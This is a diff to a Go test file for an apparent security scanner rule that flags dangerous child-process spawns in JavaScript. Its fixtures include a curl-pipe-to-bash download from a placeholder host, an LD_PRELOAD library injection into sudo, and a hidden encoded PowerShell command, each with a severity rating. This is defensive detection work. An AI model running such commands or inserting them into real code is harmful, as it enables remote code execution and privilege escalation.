@@ -10,6 +10,9 @@ import (
 func TestSpawn(t *testing.T) {
 	rt.Check(t, Spawn{}, []rt.Case{
 		{"curl_sh", map[string]string{"index.js": `require("child_process").execSync("curl -s https://x.invalid/s | bash")`}, finding.SeverityCritical},
+		// a library injected into the started program
+		{"ld_preload_env", map[string]string{"index.js": `require("child_process").spawn("sudo", ["-n", "true"], { env: { LD_PRELOAD: require("path").join(__dirname, "hook.so") } })`}, finding.SeverityHigh},
+		{"ld_library_path", map[string]string{"index.js": `require("child_process").spawn("tool", [], { env: { ...process.env, LD_LIBRARY_PATH: libDir } })`}, finding.SeverityLow},
 		// an argument array is part of the command line
 		{"powershell_encoded_argv", map[string]string{"index.js": `require("child_process").spawn("powershell.exe", ["-NoP", "-W", "Hidden", "-EncodedCommand", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"])`}, finding.SeverityCritical},
 		{"git_argv", map[string]string{"index.js": `require("child_process").spawn("git", ["clone", "--depth", "1", url])`}, finding.SeverityLow},
